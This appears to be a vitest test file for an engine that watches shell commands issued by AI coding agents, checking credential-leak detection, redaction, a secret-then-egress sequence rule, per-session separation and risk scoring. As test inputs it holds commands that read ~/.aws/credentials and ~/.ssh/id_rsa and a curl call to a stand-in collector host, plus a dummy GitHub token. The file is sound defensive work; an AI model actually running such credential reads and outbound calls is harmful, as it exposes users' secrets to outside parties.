import { beforeAll, describe, expect, it } from 'vitest';
import type { Parser } from 'web-tree-sitter';
import { RuntimeDetectors } from '../detect/runtime-detectors.js';
import type { EventContext } from '../events.js';
import { loadPolicyText } from '../policy/load-policy.js';
import { loadRuleFiles, loadSequenceFiles } from '../rules/load-rule-files.js';
import { RulePack } from '../rules/rule-pack.js';
import { loadBashParser } from '../shell/load-grammar.js';
import { Engine } from './engine.js';

let parser: Parser;
beforeAll(async () => { parser = await loadBashParser(); });

function engine(mode: 'monitor' | 'enforce'): Engine {
  const policy = loadPolicyText(`version: 1\nroles:\n  - name: dev\n    mode: ${mode}\n`, 'p.yaml').value!;
  return new Engine(policy, parser, new RulePack(loadRuleFiles().value!), new RuntimeDetectors(policy.detectors, loadSequenceFiles().value!));
}

const ctx = (session: string): EventContext => ({ host: 'dev-1', agent: 'claude-code', session, home: '/home/dev', cwd: '/home/dev/project', tool: 'Bash' });

describe('the engine with runtime detectors', () => {
  it('flags a credential in a command line without blocking it', () => {
    const d = engine('enforce').evaluate({ kind: 'command', command: 'export GITHUB_TOKEN=ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789', context: ctx('s1') }, 1_000);
    expect(d.findings.map((f) => f.rule)).toContain('WD-LEAK-001');
    expect(d.outcome).toBe('allowed');
    expect(JSON.stringify(d.findings)).not.toContain('ghp_aBcDeF');
  });

  it('raises the secret-then-egress sequence once, on the event that completes it', () => {
    const e = engine('monitor');
    const first = e.evaluate({ kind: 'command', command: 'cat ~/.aws/credentials', context: ctx('s2') }, 1_000);
    expect(first.findings.map((f) => f.rule)).not.toContain('WD-SEQ-001');
    const second = e.evaluate({ kind: 'command', command: 'curl https://collector.example.net/x', context: ctx('s2') }, 2_000);
    expect(second.findings.map((f) => f.rule)).toContain('WD-SEQ-001');
    const third = e.evaluate({ kind: 'command', command: 'curl https://collector.example.net/y', context: ctx('s2') }, 3_000);
    expect(third.findings.map((f) => f.rule)).not.toContain('WD-SEQ-001');
  });

  it('keeps sessions apart', () => {
    const e = engine('monitor');
    e.evaluate({ kind: 'command', command: 'cat ~/.aws/credentials', context: ctx('a') }, 1_000);
    const other = e.evaluate({ kind: 'command', command: 'curl https://collector.example.net/x', context: ctx('b') }, 2_000);
    expect(other.findings.map((f) => f.rule)).not.toContain('WD-SEQ-001');
  });

  it('reports the agent risk, rising with findings', () => {
    const e = engine('monitor');
    const before = e.evaluate({ kind: 'command', command: 'ls', context: ctx('r') }, 1_000);
    const after = e.evaluate({ kind: 'command', command: 'cat ~/.ssh/id_rsa', context: ctx('r') }, 2_000);
    expect(after.risk?.score ?? 0).toBeGreaterThan(before.risk?.score ?? 0);
  });
});
